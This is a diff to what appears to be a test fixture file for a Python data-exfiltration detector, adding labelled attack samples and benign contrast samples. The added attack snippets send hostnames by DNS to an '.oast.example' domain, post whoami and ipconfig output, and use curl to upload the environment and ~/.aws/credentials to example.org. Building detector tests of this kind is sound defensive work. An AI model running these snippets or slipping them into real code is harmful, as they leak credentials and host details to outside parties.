@@ -83,6 +83,9 @@ ATTACKS = {
         "import getpass\nimport socket\n\ndef go():\n"
         "    name = '%s.%s' % (getpass.getuser(), socket.gethostname())\n"
         "    socket.getaddrinfo(name + '.x.oast.fun', 80)\n", 6, (5, 5)),
+    "the host name in a name of another domain": (
+        "import socket\n\ndef go():\n    label = socket.gethostname()\n    label = label + '.oast.example'\n"
+        "    socket.gethostbyname(label)\n", 6, (4,)),
     "dnspython resolve of a fingerprint": (
         "import platform\nimport dns.resolver\n\ndef go():\n"
         "    dns.resolver.resolve('{}.example.net'.format(platform.node()), 'TXT')\n", 5, (5,)),
@@ -115,6 +118,15 @@ ATTACKS = {
         "    text = ''\n    for name in os.listdir(root):\n"
         "        text += open(os.path.join(root, name), errors='ignore').read()\n"
         "    requests.post(hook, data={'content': text})\n", 9, (8,)),
+    "recon command output posted": (
+        "import subprocess\nimport requests\n\ndef go(url):\n"
+        "    who = subprocess.check_output(['whoami']).decode()\n    net = subprocess.run('ipconfig /all', shell=True,"
+        " capture_output=True).stdout\n    requests.post(url, data={'w': who, 'n': net})\n", 7, (5, 6)),
+    "curl uploading the environment": (
+        "import os\nimport subprocess\n\ndef go():\n"
+        "    subprocess.run(['curl', '-d', str(dict(os.environ)), 'https://example.org'])\n", 5, (5,)),
+    "curl uploading a credential file named in its command line": (
+        "import os\n\ndef go():\n    os.system('curl -F f=@$HOME/.aws/credentials https://example.org/u')\n", 4, (4,)),
     "walking the home folder": (
         "import os\nimport requests\n\ndef go(url):\n    found = []\n"
         "    for top, dirs, files in os.walk(os.path.expanduser('~/.gnupg')):\n"
@@ -216,6 +228,11 @@ HONEST = {
     "a secret read but only its length sent": (
         "import os\nimport requests\n\ndef go(url):\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
         "    requests.post(url, json={'size': len(key)})\n"),
+    "the host's own address looked up": (
+        "import socket\n\ndef go():\n    ip = socket.gethostbyname(socket.gethostname())\n"
+        "    host = socket.gethostname()\n    return ip, socket.getaddrinfo(host, None)\n"),
+    "a program run that is not a network client": (
+        "import os\nimport subprocess\n\ndef go():\n    subprocess.run(['git', 'commit', '-m', str(os.environ)])\n"),
     "a user-typed password sent to its login endpoint": (
         "import getpass\nimport requests\n\ndef go(url, user):\n"
         "    requests.post(url, data={'user': user, 'password': getpass.getpass()})\n"),
